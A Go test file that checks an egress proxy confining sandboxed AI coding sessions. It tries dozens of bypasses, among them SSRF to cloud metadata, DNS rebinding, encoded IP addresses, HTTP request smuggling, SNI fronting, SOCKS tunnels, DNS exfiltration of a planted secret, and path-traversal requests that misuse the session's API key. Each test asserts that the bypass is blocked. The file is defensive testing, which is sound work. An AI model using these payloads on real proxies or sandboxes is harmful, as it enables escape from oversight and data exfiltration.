package outlet_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/fairlead-dev/fairlead/core/network"
	"github.com/fairlead-dev/fairlead/process/proxy/outlet"
	"github.com/fairlead-dev/fairlead/process/proxy/wire"
	"github.com/fairlead-dev/fairlead/process/sandbox"
	"github.com/fairlead-dev/fairlead/process/shim"
	"github.com/fairlead-dev/fairlead/process/spawn"
)

// way is one attempt to get past the proxy: the act, and the same act where it is allowed. Each reports what it got, and has worked if
// that has the text.
type way struct {
	name string
	want string
	try  func() (string, error)

	wantTwin string
	twin     func() (string, error)

	notHeld bool // SECURITY.md says so. One that is held after all has to leave this list
}

// outcome says how an act ended.
func outcome(act func() (string, error), want string) string {
	done := make(chan string, 1)
	go func() {
		got, err := act()
		switch {
		case strings.Contains(got, want):
			done <- worked
		case err != nil:
			done <- err.Error()
		default:
			done <- fmt.Sprintf("%.300q", got)
		}
	}()
	select {
	case s := <-done:
		return s
	case <-time.After(time.Minute):
		return "it hangs"
	}
}

const worked = "worked"

// connected asks the proxy for a tunnel.
func connected(target string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", "127.0.0.1:61080", actPatience)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(actPatience))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return nil, err
	}
	var head []byte
	for one := make([]byte, 1); !bytes.HasSuffix(head, []byte("\r\n\r\n")); head = append(head, one[0]) {
		if _, err := io.ReadFull(c, one); err != nil {
			return nil, err
		}
	}
	if !bytes.HasPrefix(head, []byte("HTTP/1.1 200")) {
		c.Close()
		return nil, fmt.Errorf("%s", head)
	}
	return c, nil
}

// get is a request whose answer says where it came to.
func get(path, host string, headers ...string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + strings.Join(append(headers, ""), "\r\n") + "\r\n"
}

// tunneled sends a request through CONNECT, in TLS with a name, or without TLS.
func tunneled(target, sni, request, until string) (string, error) {
	c, err := connected(target)
	if err != nil {
		return "", err
	}
	defer c.Close()
	return over(c, sni, request, until)
}

// noTLS and noName are no names for a ClientHello.
const noTLS, noName = "-", ""

// insecure is for programs that trust everyone: a certificate is not what stops an attempt.
func insecure(sni string) *tls.Config {
	return &tls.Config{ServerName: sni, InsecureSkipVerify: true}
}

func over(c net.Conn, sni, request, until string) (string, error) {
	if sni != noTLS {
		c = tls.Client(c, insecure(sni))
		defer c.Close()
	}
	return exchange(c, request, until)
}

// direct sends a request to a name or an address without the proxy's port.
func direct(at, sni, request, until string) (string, error) {
	c, err := net.DialTimeout("tcp", at, actPatience)
	if err != nil {
		return "", err
	}
	defer c.Close()
	return over(c, sni, request, until)
}

// toProxy sends a request to the proxy's port.
func toProxy(request, until string) (string, error) {
	return direct("127.0.0.1:61080", noTLS, request, until)
}

// query is a packet of the DNS.
func query(name string, kind, class uint16) []byte {
	p := []byte{7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		p = append(append(p, byte(len(label))), label...)
	}
	p = append(p, 0)
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(p, kind), class)
}

// lookUp asks the resolver of the program, and returns the bytes of the answer behind the question.
func lookUp(how, name string, kind uint16) (string, error) {
	p := query(name, kind, 1)
	c, err := net.DialTimeout(how, "127.0.0.1:53", actPatience)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(actPatience))
	size := len(p)
	if how == "tcp" {
		p = append(binary.BigEndian.AppendUint16(nil, uint16(len(p))), p...)
	}
	if _, err := c.Write(p); err != nil {
		return "", err
	}
	b := make([]byte, 4096)
	n, err := c.Read(b)
	if how == "tcp" && err == nil && n == 2 {
		n, err = c.Read(b)
	} else if how == "tcp" && n > 2 {
		b, n = b[2:], n-2
	}
	if n < size {
		return "", errors.Join(err, errors.New("a short answer"))
	}
	return string(b[size:n]), err
}

func addrBytes(text string) string { return string(netip.MustParseAddr(text).AsSlice()) }

// connectWay asks for a tunnel to what is not allowed.
func connectWay(name, target, want string) way {
	return way{
		name: "CONNECT to " + name, want: want,
		try:      func() (string, error) { return tunneled(target, noTLS, get("/", "x"), " end") },
		wantTwin: forAllowed, twin: func() (string, error) {
			return tunneled(allowed+":80", noTLS, get("/", allowed), " end")
		},
	}
}

// leadsTo looks an allowed name up, whose answer is not of a public host.
func leadsTo(what, name, addr string) way {
	w := way{name: "an allowed name that leads to " + what, want: "at " + addr + " 80 ", wantTwin: "at " + secondAt + " 80 "}
	w.try = func() (got string, err error) {
		for range 3 {
			if got, err = tunneled(name+":80", noTLS, get("/", name), " end"); strings.Contains(got, w.want) {
				break
			}
		}
		return got, err
	}
	w.twin = func() (string, error) {
		return tunneled("second.example.com:80", noTLS, get("/", "second.example.com"), " end")
	}
	return w
}

// plainWay sends one text to the proxy's port; the allowed one has the allowed name in it.
func plainWay(name, request, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return toProxy(request, want) },
		wantTwin: forAllowed, twin: func() (string, error) {
			return toProxy(get("http://"+allowed+"/", allowed), " end")
		},
	}
}

const forEvil, forAllowed = " for " + evil + " ", " for " + allowed + " "

// insideWay sends one text through an allowed tunnel to port 80.
func insideWay(name, request, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return tunneled(allowed+":80", noTLS, request, want) },
		wantTwin: forAllowed, twin: func() (string, error) { return tunneled(allowed+":80", noTLS, get("/", allowed), " end") },
	}
}

// atName sends one text to port 80 of an allowed name, without a proxy.
func atName(name, request, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return direct(allowed+":80", noTLS, request, want) },
		wantTwin: forAllowed, twin: func() (string, error) { return direct(allowed+":80", noTLS, get("/", allowed), " end") },
	}
}

// helloWay makes a handshake with a name at a place.
func helloWay(name, at, sni, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return direct(at, sni, get("/", evil), " end") },
		wantTwin: "sni " + allowed, twin: func() (string, error) { return direct(allowed+":443", allowed, get("/", allowed), " end") },
	}
}

// nameWay looks up what would leave the session.
func nameWay(name, how, host string, kind uint16, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return lookUp(how, host, kind) },
		wantTwin: "\x00\x04", twin: func() (string, error) { return lookUp(how, allowed, recordA) },
	}
}

// redirected follows what an allowed host says.
func redirected(name, to, want string) way {
	follow := func(to string) (string, error) {
		at, _ := url.Parse("http://127.0.0.1:61080")
		c := http.Client{Timeout: actPatience, Transport: &http.Transport{
			Proxy: http.ProxyURL(at), DisableKeepAlives: true, TLSClientConfig: insecure(""),
		}}
		answer, err := c.Get("http://" + allowed + "/?to=" + url.QueryEscape(to))
		if err != nil {
			return "", err
		}
		defer answer.Body.Close()
		text, err := io.ReadAll(answer.Body)
		return string(text), err
	}
	return way{
		name: "a redirect to " + name, want: want, try: func() (string, error) { return follow(to) },
		wantTwin: "at " + secondAt + " 80 ", twin: func() (string, error) { return follow("http://second.example.com/") },
	}
}

// keyWay calls the provider with the session's key for what is not a call of a model.
func keyWay(name, request, want string) way {
	return way{
		name: name, want: want, try: func() (string, error) { return toProxy(request, want) },
		wantTwin: "key true", twin: func() (string, error) {
			return toProxy("GET /anthropic/v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", " end")
		},
	}
}

func socksRequest(version byte, name string) string {
	if version == 5 {
		return "\x05\x01\x00\x05\x01\x00\x03" + string([]byte{byte(len(name))}) + name + "\x00\x50" + get("/", evil)
	}
	return "\x04\x01\x00\x50\x00\x00\x00\x01u\x00" + name + "\x00" + get("/", evil)
}

// ways are the attempts.
func ways() []way {
	return slices.Concat(waysByTarget(), waysByName(), waysInTunnels(), waysOfRequests(), waysWithoutProxy(), waysOfNames(), waysToKey())
}

func waysByTarget() []way {
	return []way{
		{
			name: "CONNECT to a host that is not allowed", want: "sni " + evil,
			try:      func() (string, error) { return tunneled(evil+":443", evil, get("/", evil), " end") },
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		connectWay("a host that is not allowed, at port 80", evil+":80", "at "+evilAt),
		connectWay("the address of another host", evilAt+":80", "at "+evilAt),
		connectWay("the address of an allowed host", allowedAt+":80", "at "+allowedAt),
		connectWay("an address of IPv6", "["+evilSix+"]:80", "at "+evilSix),
		connectWay("a private address", private+":80", "at "+private),
		connectWay("the metadata of the machine", metadata+":80", "at "+metadata),
		connectWay("the metadata of the machine by IPv6", "[fd00:ec2::254]:80", "at fd00:ec2::254"),
		connectWay("a service of this machine", "127.0.0.1:7777", "at 127.0.0.1 7777"),
		connectWay("a service of this machine by IPv6", "[::1]:7777", "at ::1 7777"),
		connectWay("a service of this machine by its name", "localhost:7777", "at 127.0.0.1 7777"),
		connectWay("no address, which is this machine", "0.0.0.0:7777", "at 127.0.0.1 7777"),
		connectWay("an address of IPv4 in IPv6", "[::ffff:10.1.2.3]:80", "at "+private),
		connectWay("an address of NAT64", "[64:ff9b::a01:203]:80", "at 64:ff9b::a01:203"),
		connectWay("an address as one number", "2130706433:7777", "at 127.0.0.1 7777"),
		connectWay("an address in hexadecimal", "0x7f000001:7777", "at 127.0.0.1 7777"),
		connectWay("an address in octal", "0177.0.0.1:7777", "at 127.0.0.1 7777"),
		connectWay("an address with fewer parts", "127.1:7777", "at 127.0.0.1 7777"),
		connectWay("an address with numbers of three kinds", "0x0a.1.01003:80", "at "+private),
		connectWay("an allowed host at the port of SSH", allowed+":22", "at "+allowedAt+" 22"),
		connectWay("an allowed host at the port of names in TLS", allowed+":853", "at "+allowedAt+" 853"),
		connectWay("an allowed host at another port of the web", allowed+":8443", "at "+allowedAt+" 8443"),
		connectWay("a name with a dot at its end", evil+".:80", "at "+evilAt),
		connectWay("a name that begins as an allowed one", allowed+"."+evil+":80", "at "+evilAt),
		connectWay("a name that ends as an allowed one", "not"+allowed+":80", "at "+evilAt),
		connectWay("a name below an allowed one", "data."+allowed+":80", "at "+evilAt),
		connectWay("a name in one part", "internal:80", "at "+private),
		connectWay("the open proxy of this machine", "127.0.0.1:61080", "at 127.0.0.1 61080"),
		connectWay("an open proxy of an allowed host", allowed+":61080", "at "+allowedAt+" 61080"),
	}
}

func waysByName() []way {
	return []way{
		leadsTo("a private address at the second look-up", "rebind.example.com", private),
		leadsTo("a private address beside a public one", "mixed.example.com", private),
		leadsTo("this machine", "loopback.example.com", "127.0.0.1"),
		leadsTo("this machine by IPv6", "loopback6.example.com", "::1"),
		leadsTo("10.0.0.0/8", "private10.example.com", private),
		leadsTo("172.16.0.0/12", "private172.example.com", "172.16.5.5"),
		leadsTo("192.168.0.0/16", "private192.example.com", "192.168.7.7"),
		leadsTo("metadata", "metadata.example.com", metadata),
		leadsTo("metadata of another cloud", "alibaba.example.com", "100.100.100.200"),
		leadsTo("metadata at a public address", "azure.example.com", "168.63.129.16"),
		leadsTo("metadata by IPv6", "metadata6.example.com", "fd00:ec2::254"),
		leadsTo("a carrier's network", "carrier.example.com", "100.64.1.1"),
		leadsTo("a private network of IPv6", "local.example.com", "fd12:3456::7"),
		leadsTo("a site of IPv6", "site.example.com", "fec0::7"),
		leadsTo("a private address behind NAT64", "nat64.example.com", "64:ff9b::a01:203"),
		leadsTo("a private address behind 6to4", "sixtofour.example.com", "2002:a01:203::1"),
		leadsTo("an address of Teredo", "teredo.example.com", "2001::5"),
		leadsTo("an address compatible with IPv4", "compatible.example.com", "::a01:203"),
		leadsTo("benchmarks", "benchmark.example.com", "198.18.0.9"),
		leadsTo("documentation", "document.example.com", "203.0.113.7"),
		leadsTo("no host, which is this machine", "zero.example.com", "127.0.0.1"),
		leadsTo("reserved addresses", "reserved.example.com", "240.0.0.9"),
		leadsTo("the local link", "linklocal.example.com", "169.254.7.7"),
		leadsTo("addresses of protocols", "protocol.example.com", "192.0.0.9"),
	}
}

func waysInTunnels() []way {
	chunk := get("/", evil)
	smuggled := "0\r\n\r\n" + chunk
	return []way{
		{
			name: "fronting: another name in the ClientHello", want: "sni " + evil,
			try:      func() (string, error) { return tunneled(allowed+":443", evil, get("/", evil), " end") },
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		{
			name: "no name in the ClientHello", want: forEvil,
			try:      func() (string, error) { return tunneled(allowed+":443", noName, get("/", evil), " end") },
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		{
			name: "no TLS at port 443", want: forEvil,
			try:      func() (string, error) { return tunneled(allowed+":443", noTLS, get("/", evil), " end") },
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		{
			name: "one byte of TLS, and then another protocol", want: " 443 for ",
			try: func() (string, error) {
				return tunneled(allowed+":443", noTLS, "GET / HTTP/1.1\r\nHost: \x16\x03\x01\r\n\r\n", " end")
			},
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		insideWay("another Host inside CONNECT", get("/", evil), forEvil),
		insideWay("another Host in the second request", get("/", allowed)+get("/", evil), forEvil),
		insideWay("two Hosts inside CONNECT", "GET / HTTP/1.1\r\nHost: "+allowed+"\r\nHost: "+evil+"\r\n\r\n", forEvil),
		insideWay("a folded Host inside CONNECT", "GET / HTTP/1.1\r\nHost:\r\n "+evil+"\r\n\r\n", forEvil),
		insideWay("a Host before a colon with a space", "GET / HTTP/1.1\r\nHost: "+allowed+"\r\nHost : "+evil+"\r\n\r\n", forEvil),
		insideWay("another protocol, and then another Host", get("/", allowed, "Connection: Upgrade", "Upgrade: h2c")+get("/", evil), forEvil),
		insideWay("a proxy in the proxy", "CONNECT "+evil+":80 HTTP/1.1\r\nHost: "+evil+":80\r\n\r\n"+get("/", evil), forEvil),
		insideWay("a request for a proxy, inside CONNECT", get("http://"+evil+"/", evil), forEvil),
		insideWay("a second request in a body of chunks", "POST / HTTP/1.1\r\nHost: "+allowed+"\r\nContent-Length: "+strconv.Itoa(len(smuggled))+
			"\r\nTransfer-Encoding: chunked\r\n\r\n"+smuggled, forEvil),
		insideWay("a second request behind an odd name of chunks", "POST / HTTP/1.1\r\nHost: "+allowed+"\r\nContent-Length: "+
			strconv.Itoa(len(smuggled))+"\r\nTransfer-Encoding : chunked\r\n\r\n"+smuggled, forEvil),
		insideWay("a second request behind odd chunks", "POST / HTTP/1.1\r\nHost: "+allowed+"\r\nContent-Length: "+
			strconv.Itoa(len(smuggled))+"\r\nTransfer-Encoding: xchunked\r\n\r\n"+smuggled, forEvil),
		insideWay("a second request behind two lengths", "POST / HTTP/1.1\r\nHost: "+allowed+"\r\nContent-Length: "+strconv.Itoa(len(chunk))+
			"\r\nContent-Length: 0\r\n\r\n"+chunk, forEvil),
		insideWay("a second request as the body of GET", "GET / HTTP/1.0\r\nHost: "+allowed+"\r\nContent-Length: +0\r\n\r\n"+chunk, forEvil),
	}
}

func waysOfRequests() []way {
	return []way{
		plainWay("a request for a host that is not allowed", get("http://"+evil+"/", evil), "at "+evilAt),
		plainWay("a request with another Host", get("http://"+allowed+"/", evil), forEvil),
		plainWay("a request with two Hosts", "GET http://"+allowed+"/ HTTP/1.1\r\nHost: "+allowed+"\r\nHost: "+evil+"\r\n\r\n", forEvil),
		plainWay("a request with a folded Host", "GET http://"+allowed+"/ HTTP/1.1\r\nHost:\r\n\t"+evil+"\r\n\r\n", forEvil),
		plainWay("a request with a name before the host", get("http://"+allowed+"@"+evil+"/", evil), "at "+evilAt),
		plainWay("a request with a password before the host", get("http://"+allowed+":80@"+evil+"/", evil), "at "+evilAt),
		plainWay("a request for https", get("https://"+evil+"/", evil), "sni "+evil),
		plainWay("a request for an allowed host at another port", get("http://"+allowed+":8443/", allowed+":8443"), "at "+allowedAt+" 8443"),
		plainWay("a request for a private address", get("http://"+private+"/", private), "at "+private),
		plainWay("a request for metadata", get("http://"+metadata+"/latest/meta-data/", metadata), "at "+metadata),
		plainWay("a request for metadata by IPv6", get("http://[fd00:ec2::254]/", "[fd00:ec2::254]"), "at fd00:ec2::254"),
		plainWay("a request for metadata by its name", get("http://metadata.google.internal/", "metadata.google.internal"), "at "+evilAt),
		plainWay("a request for this machine", get("http://localhost:7777/", "localhost:7777"), "at 127.0.0.1 7777"),
		plainWay("a WebSocket to a host that is not allowed",
			get("http://"+evil+"/", evil, "Connection: Upgrade", "Upgrade: websocket")+get("/", evil), forEvil),
		plainWay("a second request to the proxy's port", get("http://"+allowed+"/", allowed)+get("/", evil), forEvil),
		plainWay("SOCKS 5", socksRequest(5, evil), forEvil),
		plainWay("SOCKS 4", socksRequest(4, evil), forEvil),

		redirected("a host that is not allowed", "http://"+evil+"/", "at "+evilAt),
		redirected("a private address", "http://"+private+"/", "at "+private),
		redirected("metadata", "http://"+metadata+"/", "at "+metadata),
		redirected("this machine", "http://127.0.0.1.example.com:7777/", " 7777 "),
		redirected("https of another host", "https://"+evil+"/", "sni "+evil),
	}
}

func waysWithoutProxy() []way {
	return []way{
		helloWay("TLS to a host that is not allowed, without a proxy", evil+":443", evil, "sni "+evil),
		helloWay("TLS to another host by an allowed name's address", allowed+":443", evil, "sni "+evil),
		helloWay("TLS with an allowed name to another host's address", evilAt+":443", allowed, "at "+evilAt),
		helloWay("TLS to an address of no name", "127.70.1.2:443", evil, "sni "+evil),
		helloWay("TLS to the session's own address", "127.0.0.1:443", evil, "sni "+evil),
		helloWay("TLS without a name, without a proxy", allowed+":443", noName, forEvil),
		helloWay("TLS to a name that leads to a private address", "private10.example.com:443", "private10.example.com", "at "+private),
		helloWay("no TLS, without a proxy", allowed+":443", noTLS, forEvil),
		atName("another Host at a name's address", get("/", evil), forEvil),
		atName("a private address as the Host", get("/", private), " for "+private),
		atName("two Hosts at a name's address", "GET / HTTP/1.1\r\nHost: "+allowed+"\r\nHost: "+evil+"\r\n\r\n", forEvil),
		atName("a proxy at a name's address", "CONNECT "+evil+":80 HTTP/1.1\r\nHost: "+evil+":80\r\n\r\n"+get("/", evil), forEvil),
		atName("a request for a proxy at a name's address", get("http://"+evil+"/", evil), forEvil),
		atName("a second Host at a name's address", get("/", allowed)+get("/", evil), forEvil),
		{
			name: "a host that is not allowed at its name's address", want: forEvil,
			try:      func() (string, error) { return direct(evil+":80", noTLS, get("/", evil), " end") },
			wantTwin: forAllowed, twin: func() (string, error) { return direct(allowed+":80", noTLS, get("/", allowed), " end") },
		},
		{
			name: "a Host at an address of no name", want: forEvil,
			try:      func() (string, error) { return direct("127.70.1.2:80", noTLS, get("/", evil), " end") },
			wantTwin: forAllowed, twin: func() (string, error) { return direct("127.70.1.2:80", noTLS, get("/", allowed), " end") },
		},
		{
			name: "QUIC", want: "datagram of the world",
			try: func() (string, error) {
				c, err := net.Dial("udp4", allowed+":443")
				if err != nil {
					return "", err
				}
				defer c.Close()
				return exchange(c, "\xc0\x00\x00\x00\x01"+strings.Repeat("\x00", 1195), "datagram")
			},
			wantTwin: "sni " + allowed, twin: func() (string, error) { return direct(allowed+":443", allowed, get("/", allowed), " end") },
		},
	}
}

func waysOfNames() []way {
	return []way{
		nameWay("the address of a name", "udp", evil, recordA, addrBytes(evilAt)),
		nameWay("the address of a name, over TCP", "tcp", evil, recordA, addrBytes(evilAt)),
		nameWay("the address of an allowed name", "udp", allowed, recordA, addrBytes(allowedAt)),
		nameWay("an address of IPv6 of a name", "udp", evil, recordAAAA, addrBytes(evilSix)),
		nameWay("data in a name", "udp", "the-secret-is-swordfish."+evil, recordA, addrBytes(evilAt)),
		nameWay("data below an allowed name", "udp", "the-secret-is-swordfish."+allowed, recordA, addrBytes(evilAt)),
		nameWay("data in a text", "udp", "data."+evil, 16, dnsReached),
		nameWay("data in a text, over TCP", "tcp", "data."+evil, 16, dnsReached),
		nameWay("data in a record of mail", "udp", "data."+evil, 15, dnsReached),
		nameWay("data in a record of services", "udp", "_http._tcp."+evil, 33, dnsReached),
		nameWay("data in a record without a kind", "udp", "data."+evil, 10, dnsReached),
		nameWay("the keys of ECH", "udp", allowed, 65, dnsReached),
		nameWay("a reverse look-up", "udp", "7.7.168.192.in-addr.arpa", 12, dnsReached),
		nameWay("a whole zone", "tcp", "example.net", 252, dnsReached),
		nameWay("all records of a name", "udp", evil, 255, dnsReached),
		nameWay("a name in one part, looked up", "udp", "internal", recordA, addrBytes(private)),
	}
}

func waysToKey() []way {
	return []way{
		keyWay("a path of the provider that is no call of a model", "GET /anthropic/v1/files HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "key true"),
		keyWay("a path upward", "GET /anthropic/v1/models/../files HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "key true"),
		keyWay("a path upward, escaped", "GET /anthropic/v1/models/%2e%2e/files HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "key true"),
		keyWay("a path with a slash, escaped", "GET /anthropic/v1/models%2f..%2ffiles HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "key true"),
		keyWay("a path with two slashes", "GET /anthropic//v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "key true"),
		keyWay("the key in an answer to TRACE", "TRACE /anthropic/v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", worldKey),
		keyWay("a page of a browser that calls the provider", "GET /anthropic/v1/models HTTP/1.1\r\nHost: "+evil+"\r\n\r\n", "key true"),
		keyWay("another protocol with the provider", "GET /anthropic/v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\n"+
			"Upgrade: h2c\r\n\r\n"+get("/v1/files", provider), "101 Switching Protocols"),
		keyWay("a second request to the provider", "GET /anthropic/v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"+
			get("/v1/files", provider), "key true end\nHTTP"),

		{
			name: "fronting: another Host inside TLS", want: " for " + fronted + " sni " + allowed, notHeld: true,
			try:      func() (string, error) { return tunneled(allowed+":443", allowed, get("/", fronted), " end") },
			wantTwin: "sni " + allowed, twin: func() (string, error) { return tunneled(allowed+":443", allowed, get("/", allowed), " end") },
		},
		{
			name: "data in a request to an allowed host", want: forAllowed, notHeld: true,
			try: func() (string, error) {
				return tunneled(allowed+":80", noTLS, get("/?the-secret-is-swordfish", allowed), " end")
			},
			wantTwin: forAllowed, twin: func() (string, error) { return tunneled(allowed+":80", noTLS, get("/", allowed), " end") },
		},
	}
}

// makeWays prints what each attempt gave, and its twin.
func makeWays() {
	out := json.NewEncoder(os.Stdout)
	for _, w := range ways() {
		_ = out.Encode([3]string{w.name, outcome(w.try, w.want), outcome(w.twin, w.wantTwin)})
	}
}

// startIn starts this binary in a session of the world.
func startIn(t *testing.T, w *world, folder, name string, act string, change func(*spawn.Network)) *shim.Handle {
	t.Helper()
	rules := network.Rules{Hosts: []network.Host{{Name: allowed}, {Name: provider}}}
	for host := range zone {
		if strings.HasSuffix(host, ".example.com") && host != allowed {
			rules.Hosts = append(rules.Hosts, network.Host{Name: host})
		}
	}
	net := &spawn.Network{
		Folder: folder, Agent: "coder", Rules: rules, Keys: []wire.Key{{Provider: "anthropic", Value: worldKey}},
		Upstream: wire.Upstream{Authorities: w.authority},
	}
	if change != nil {
		change(net)
	}
	view := sandbox.Abilities().Apply(sandbox.View{
		Places: []sandbox.Place{{Path: filepath.Dir(self(t)), Access: sandbox.Read}}, Network: sandbox.InsideOf(rules),
	})
	h, err := shim.Start(t.Context(), filepath.Join(t.TempDir(), "session"), shim.Spec{
		Session: name, Workspace: t.Name(), Fence: 1, Grace: 5 * time.Second,
		Launch: spawn.Launch{
			Argv: []string{self(t)}, KeepStdin: true, View: &view, Network: net,
			Env: append(outlet.Environment([]string{"PATH=/usr/bin:/bin", "GORACE=atexit_sleep_ms=0"}), clientVar+"="+act),
		},
	})
	ok(t, err)
	t.Cleanup(func() {
		_ = h.End(context.Background(), 0)
		<-h.Done()
		h.Close()
	})
	return h
}

// triples reads what attempts gave.
func triples(t *testing.T, text string) (all [][3]string) {
	t.Helper()
	for line := range strings.Lines(text) {
		var r [3]string
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%v: %s", err, text)
		}
		all = append(all, r)
	}
	return all
}

// TestAttemptsByProxy makes every known attempt to get past the proxy: on the machine with an open proxy, where it has to work, and in a
// session, where none may, while its allowed twin does. The servers of the machine say what reached them.
func TestAttemptsByProxy(t *testing.T) {
	if !alone(t) {
		return
	}
	w := newWorld(t)
	folder := filepath.Join(t.TempDir(), "proxy")
	endProxy(t, folder)
	control := exec.Command(self(t))
	control.Env, control.Stderr = append(os.Environ(), clientVar+"=ways"), os.Stderr
	out, err := control.Output()
	ok(t, err)
	free := triples(t, string(out))
	w.forget()
	h := startIn(t, w, folder, "coder-1", "ways", nil)
	s := &session{h, folder}
	held := triples(t, s.output(t))
	table := ways()
	if len(free) != len(table) || len(held) != len(table) {
		t.Fatalf("%d and %d results of %d attempts", len(free), len(held), len(table))
	}
	names := map[string]bool{}
	for i, a := range table {
		if names[a.name] {
			t.Errorf("two attempts are called %q", a.name)
		}
		names[a.name] = true
		if free[i][1] != worked {
			t.Errorf("%s does not even work with an open proxy, so it proves nothing: %s", a.name, free[i][1])
		}
		if (held[i][1] == worked) != a.notHeld {
			t.Errorf("%s: %s", a.name, held[i][1])
		}
		if strings.Contains(held[i][1], "hangs") {
			t.Errorf("%s: %s", a.name, held[i][1])
		}
		if held[i][2] != worked {
			t.Errorf("%s: its allowed twin gave %s", a.name, held[i][2])
		}
	}
	t.Log(len(table), "attempts")
	seen, asked := w.record()
	for _, v := range seen {
		if !reachable(v) {
			t.Errorf("a server was reached: %s", v)
		}
	}
	for _, name := range asked {
		below := strings.HasSuffix(name, "."+allowed) || strings.HasPrefix(name, "127")
		if below || !strings.HasSuffix(name, ".example.com") && name != provider {
			t.Errorf("the resolver of the machine was asked for %q", name)
		}
	}
}
